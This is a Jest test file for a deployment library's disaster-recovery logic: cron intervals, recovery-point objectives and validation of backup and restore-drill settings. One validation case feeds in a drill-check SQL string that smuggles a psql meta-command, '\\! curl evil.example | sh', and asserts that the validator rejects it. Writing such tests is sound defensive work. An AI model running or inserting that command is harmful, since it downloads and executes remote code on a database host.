import { type ProductionStackProps, ValidationError, check, cronIntervalMinutes, recoveryPoint, validate } from 'production-stack/core';
import { examples } from '../../examples';
import { baseSpec } from '../support/spec';

describe('cron intervals', () => {
  test.each([
    ['0 2 * * *', 24 * 60],
    ['0 */6 * * *', 6 * 60],
    ['*/15 * * * *', 15],
    ['30 1 * * 1-5', 3 * 24 * 60], // Friday to Monday
    ['0 3 * * SUN', 7 * 24 * 60],
    ['@weekly', 7 * 24 * 60],
    ['0 0 1 * *', 31 * 24 * 60], // the longest month
    ['0 0 1,15 * *', 17 * 24 * 60], // the 15th to the 1st of a 31-day month
    ['0 0 13 * 5', 7 * 24 * 60], // either the 13th or a Friday: never more than a week apart
  ])('%s runs at least every %i minutes', (schedule, minutes) => {
    expect(cronIntervalMinutes(schedule)).toBe(minutes);
  });

  test('a schedule that does not parse has no interval', () => {
    for (const s of ['', 'daily', '0 2 * *', '61 * * * *', '0 0 31 2 *']) expect(cronIntervalMinutes(s)).toBeUndefined();
  });
});

describe('achievable RPO', () => {
  const spec = baseSpec();
  test('database: point-in-time recovery bounds it, not the daily backups', () => {
    expect(recoveryPoint(spec, 'database')).toEqual({ minutes: 5, by: 'managed point-in-time recovery' });
  });
  test('region: nothing survives without a standby region; with one, the cross-region replica (RDS or Cloud SQL) bounds it, else the backups replicated there', () => {
    expect(recoveryPoint(spec, 'region')!.minutes).toBe(Infinity);
    expect(recoveryPoint({ ...spec, dr: { standbyRegion: 'us-east-1' } }, 'region')).toEqual({
      minutes: 5,
      by: 'the cross-region RDS replica in us-east-1',
    });
    const gcp = { ...spec, cloud: 'gcp' as const, region: 'europe-west1' };
    expect(recoveryPoint({ ...gcp, dr: { standbyRegion: 'europe-west4' } }, 'region')).toEqual({
      minutes: 5,
      by: 'the cross-region Cloud SQL replica in europe-west4',
    });
    // without PostgreSQL there is no replica: only the backups (of nothing) would count; with logical backups off and
    // no database, the region scenario is bounded by nothing that survives
    const { postgres: _pg, ...noDatabase } = gcp;
    expect(recoveryPoint({ ...noDatabase, dr: { standbyRegion: 'europe-west4' } }, 'region')).toBeUndefined();
  });
  test('scenarios the library does not model are not checked', () => {
    expect(recoveryPoint(spec, 'cluster')).toBeUndefined();
  });
});

function problemsOf(props: unknown): string[] {
  return check(props).map((p) => `${p.path}: ${p.rule}`);
}

describe('validation', () => {
  const spec = baseSpec();
  const withDr = (dr: NonNullable<ProductionStackProps['dr']>): ProductionStackProps => ({ ...spec, dr });

  test.each([
    [
      'an RPO below point-in-time recovery',
      withDr({ objectives: [{ scenario: 'database', rtoMinutes: 30, rpoMinutes: 1 }] }),
      'dr.objectives[0].rpoMinutes',
      /cannot be met: losing the database loses up to 5 minutes of data \(managed point-in-time recovery\)/,
    ],
    [
      'a region RPO without a standby region',
      withDr({ objectives: [{ scenario: 'region', rtoMinutes: 240, rpoMinutes: 60 }] }),
      'dr.objectives[0].rpoMinutes',
      /losing the region loses all of its data \(no standby region/,
    ],
    [
      'a scenario stated twice',
      withDr({
        objectives: [
          { scenario: 'cluster', rtoMinutes: 60, rpoMinutes: 60 },
          { scenario: 'cluster', rtoMinutes: 30, rpoMinutes: 60 },
        ],
      }),
      'dr.objectives',
      /scenario "cluster" is used more than once/,
    ],
    [
      'logical backups asked without PostgreSQL',
      { ...spec, postgres: undefined, dr: { logicalBackups: true } },
      'dr.logicalBackups',
      /no PostgreSQL/,
    ],
    ['a bucket name S3 and GCS refuse', withDr({ backupBucket: 'Shop_Backups' }), 'dr.backupBucket', /must be a bucket name/],
    [
      'a bucket name leaves no room for its replica in the standby region (AWS)',
      withDr({ backupBucket: 'b'.repeat(56), standbyRegion: 'us-east-1' }),
      'dr.backupBucket',
      /"b{56}" leaves no room for its replica in the standby region, "<bucket>-replica" \(63 characters at most\): 55 at most/,
    ],
    [
      'a backup identity that is no IAM role or service account',
      withDr({ backupIdentity: 'shop-backup' }),
      'dr.backupIdentity',
      /IAM role ARN/,
    ],
    ['a drill schedule that is not cron', withDr({ restoreDrill: { schedule: 'weekly' } }), 'dr.restoreDrill.schedule', /cron/],
    ['a drill with no checks', withDr({ restoreDrill: { checks: [] } }), 'dr.restoreDrill.checks', /at least one check/],
    [
      'a drill check with a psql meta-command, which psql runs outside the server (test/core/psql-meta.test.ts holds the model to psql)',
      withDr({ restoreDrill: { checks: [{ name: 'rows', sql: 'SELECT count(*) > 0 FROM orders; -- ok\n\\! curl evil.example | sh' }] } }),
      'dr.restoreDrill.checks[0].sql',
      /has a psql meta-command at character 40 \(a backslash outside a string, identifier or comment\): a check is SQL only/,
    ],
    [
      'a drill check with an invalid name',
      withDr({ restoreDrill: { checks: [{ name: 'Row Count', sql: 'SELECT true' }] } }),
      'dr.restoreDrill.checks[0].name',
      /DNS-1123/,
    ],
    [
      'a drill check with no query',
      withDr({ restoreDrill: { checks: [{ name: 'rows', sql: ' ' }] } }),
      'dr.restoreDrill.checks[0].sql',
      /needs a query/,
    ],
  ])('fails when %s', (_, props, path, rule) => {
    const problems = problemsOf(props);
    expect(problems).toContainEqual(expect.stringMatching(new RegExp(`^${path.replace(/[[\].]/g, '\\$&')}: `)));
    expect(problems.find((p) => p.startsWith(`${path}: `))).toMatch(rule);
    expect(() => validate(props as ProductionStackProps)).toThrow(ValidationError);
  });

  test('the replica name rule: 55 characters pass on AWS; on GCP (a dual-region bucket, no replica) any bucket name does', () => {
    const bucketProblems = (props: ProductionStackProps) => problemsOf(props).filter((p) => p.startsWith('dr.backupBucket'));
    expect(bucketProblems(withDr({ backupBucket: 'b'.repeat(55), standbyRegion: 'us-east-1' }))).toEqual([]);
    const gcp = { ...spec, cloud: 'gcp' as const, region: 'europe-west1' };
    expect(bucketProblems({ ...gcp, dr: { backupBucket: 'b'.repeat(63), standbyRegion: 'europe-west4' } })).toEqual([]);
    // an invalid name is reported once, not again as a replica name
    expect(bucketProblems(withDr({ backupBucket: 'B'.repeat(60), standbyRegion: 'us-east-1' }))).toHaveLength(1);
  });

  test('a malformed dr section is reported, never thrown', () => {
    expect(() => check({ ...spec, dr: { backupSchedule: 7, objectives: [{ scenario: 'database', rpoMinutes: 'soon' }] } })).not.toThrow();
    expect(problemsOf({ ...spec, dr: { backupSchedule: 7 } })).toContainEqual(expect.stringMatching(/^dr\.backupSchedule: /));
  });

  test.each(Object.entries(examples))('example %s meets its stated objectives', (_, example) => {
    expect(problemsOf(example)).toEqual([]);
  });
});
